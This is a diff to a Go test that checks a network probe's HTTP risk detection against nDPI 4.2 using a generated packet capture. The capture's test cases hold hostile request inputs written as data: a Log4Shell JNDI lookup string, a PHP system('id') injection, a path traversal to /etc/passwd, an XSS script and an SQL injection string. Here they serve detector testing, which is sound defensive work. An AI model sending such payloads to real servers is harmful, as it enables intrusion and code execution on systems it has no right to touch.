@@ -10,6 +10,7 @@ import (
 	"path/filepath"
 	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -22,8 +23,16 @@ import (
 // test compares (ndpi_risk2str); a risk the probe raises that is not here
 // is not compared yet.
 var ndpiRiskText = map[l7.Risk]string{
-	l7.RiskSuspiciousDGADomain: "Suspicious DGA Domain name",
-	l7.RiskUnsafeProtocol:      "Unsafe Protocol",
+	l7.RiskSuspiciousDGADomain:     "Suspicious DGA Domain name",
+	l7.RiskUnsafeProtocol:          "Unsafe Protocol",
+	l7.RiskURLPossibleXSS:          "XSS Attack",
+	l7.RiskURLPossibleSQLInjection: "SQL Injection",
+	l7.RiskURLPossibleRCEInjection: "RCE Injection",
+	l7.RiskHTTPSuspiciousUserAgent: "HTTP Suspicious User-Agent",
+	l7.RiskNumericIPHost:           "HTTP Numeric IP Address",
+	l7.RiskHTTPSuspiciousURL:       "HTTP Suspicious URL",
+	l7.RiskHTTPSuspiciousContent:   "HTTP Suspicious Content",
+	l7.RiskPossibleExploit:         "Possible Exploit Detected",
 }
 
 var ndpiRiskField = regexp.MustCompile(`\[Risk: ([^\]]*)\]`)
@@ -137,7 +146,9 @@ func TestRisksMatchNDPIReader(t *testing.T) {
 		writeNameCapture(t, "dga.pcap", dgaCaptureNames, dgaHTTPHosts, dgaOtherDNS),
 		writeTorCapture(t),
 		writeMiningCapture(t),
+		writeHTTPRiskCapture(t),
 	}
+	usedHTTP := map[string]bool{}
 	for _, pcap := range captures {
 		base := filepath.Base(pcap)
 		ndpi := ndpiReaderRisks(t, pcap)
@@ -165,11 +176,20 @@ func TestRisksMatchNDPIReader(t *testing.T) {
 				same++
 				continue
 			}
+			if d, ok := httpKnownDifferences[names[k]]; ok && base == "http.pcap" && slices.Equal(d.ndpi, ndpi[k]) && len(got) == 0 {
+				usedHTTP[names[k]] = true
+				continue
+			}
 			t.Errorf("%s: %s (%s): probe raises %v, nDPI 4.2 %v", base, k, names[k], got, ndpi[k])
 		}
 		t.Logf("%s: %d flows agree with nDPI, %d of them with compared risks", base, same, risky)
 		if risky == 0 {
 			t.Errorf("%s: nDPI raised none of the compared risks: the capture tests nothing", base)
+		}
+	}
+	for host, d := range httpKnownDifferences {
+		if !usedHTTP[host] {
+			t.Errorf("known difference no longer seen, drop it: %s %v (%s)", host, d.ndpi, d.why)
 		}
 	}
 }
@@ -218,5 +238,69 @@ func writeMiningCapture(t *testing.T) string {
 	w.tcpConn(cli, srv(6), 21006, 7001, []byte("hello there, nothing to see"), subscribe)
 	w.tcpConn(cli, srv(7), 21007, 443, clientHello("coinhive.com"))
 	w.udp(cli, net.IP{203, 0, 113, 53}, 21008, 53, dnsQuery(0x3000, "coin-hive.com"))
+	return w.Path
+}
+
+// httpRiskCase is one HTTP exchange of the generated HTTP capture; each
+// has its own Host, which names it in the known differences.
+type httpRiskCase struct {
+	host, target, ua string
+	respHead, body   string // body "" : none; sent with the head unless split
+	split            bool   // the body comes in the server's next segment
+}
+
+var httpRiskCases = []httpRiskCase{
+	{host: "plain.example", target: "/index.html", ua: "Mozilla/5.0 (X11; Linux x86_64)", respHead: "Content-Type: text/html", body: "<html></html>"},
+	{host: "log4shell.example", target: "/", ua: "${jndi:ldap://198.51.100.66/a}", respHead: "Content-Type: text/html", body: "<html>"},
+	{host: "php.example", target: "/", ua: "<?php system('id'); ?>"},
+	{host: "url.example", target: "/", ua: "Mozilla/5.0 http://bot.example/info"},
+	{host: "short.example", target: "/", ua: "abc"},
+	{host: "testtool.example", target: "/", ua: "test-agent/1.0"},
+	{host: "brace.example", target: "/", ua: "curl {x}"},
+	{host: "long.example", target: "/", ua: strings.Repeat("Mozilla/5.0 ", 25)},
+	{host: "traversal.example", target: "/a/../../etc/passwd", ua: "Mozilla/5.0"},
+	{host: "dots.example", target: "/file..txt?x=1", ua: "Mozilla/5.0"},
+	{host: "192.0.2.200", target: "/", ua: "Mozilla/5.0"},
+	{host: "192.0.2.201:8080", target: "/", ua: "Mozilla/5.0"},
+	{host: "[2001:db8::1]", target: "/", ua: "Mozilla/5.0"},
+	{host: "010.1.1.1", target: "/", ua: "Mozilla/5.0"},
+	{host: "binary.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "\x00\x01\x02\x03binary"},
+	{host: "gzip.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: application/json", body: "\x1f\x8b\x08\x00zipped"},
+	{host: "later.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain", body: "\x7f\x80\x81\x82", split: true},
+	{host: "image.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: image/png", body: "\x89PNG\r\n"},
+	{host: "form.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-www-form-urlencoded", body: "\xff\xfeab"},
+	// libinjection's (not ported): known differences.
+	{host: "xss.example", target: "/search?q=<script>alert(1)</script>", ua: "Mozilla/5.0"},
+	{host: "sqli.example", target: "/item?id=1'%20OR%20'1'='1", ua: "Mozilla/5.0"},
+}
+
+// httpKnownDifferences are the HTTP capture's flows (by Host) where the
+// probe does not raise what nDPI 4.2 raises, with the reason.
+var httpKnownDifferences = map[string]struct {
+	ndpi []l7.Risk
+	why  string
+}{
+	"xss.example":  {[]l7.Risk{l7.RiskURLPossibleXSS}, "ndpi_validate_url's libinjection checks are not ported (no Go port on the module proxy)"},
+	"sqli.example": {[]l7.Risk{l7.RiskURLPossibleSQLInjection}, "ndpi_validate_url's libinjection checks are not ported (no Go port on the module proxy)"},
+}
+
+func writeHTTPRiskCapture(t *testing.T) string {
+	t.Helper()
+	w := newCapWriter(t, "http.pcap")
+	cli := net.IP{192, 0, 2, 10}
+	for i, c := range httpRiskCases {
+		req := []byte("GET " + c.target + " HTTP/1.1\r\nHost: " + c.host + "\r\nUser-Agent: " + c.ua + "\r\nAccept: */*\r\n\r\n")
+		head := "HTTP/1.1 200 OK\r\nServer: test\r\n"
+		if c.respHead != "" {
+			head += c.respHead + "\r\n"
+		}
+		head += "Content-Length: " + strconv.Itoa(len(c.body)) + "\r\n\r\n"
+		srv := net.IP{198, 51, 100, byte(10 + i)}
+		if c.split {
+			w.tcpConn(cli, srv, uint16(22000+i), 80, req, []byte(head), nil, []byte(c.body))
+		} else {
+			w.tcpConn(cli, srv, uint16(22000+i), 80, req, []byte(head+c.body))
+		}
+	}
 	return w.Path
 }
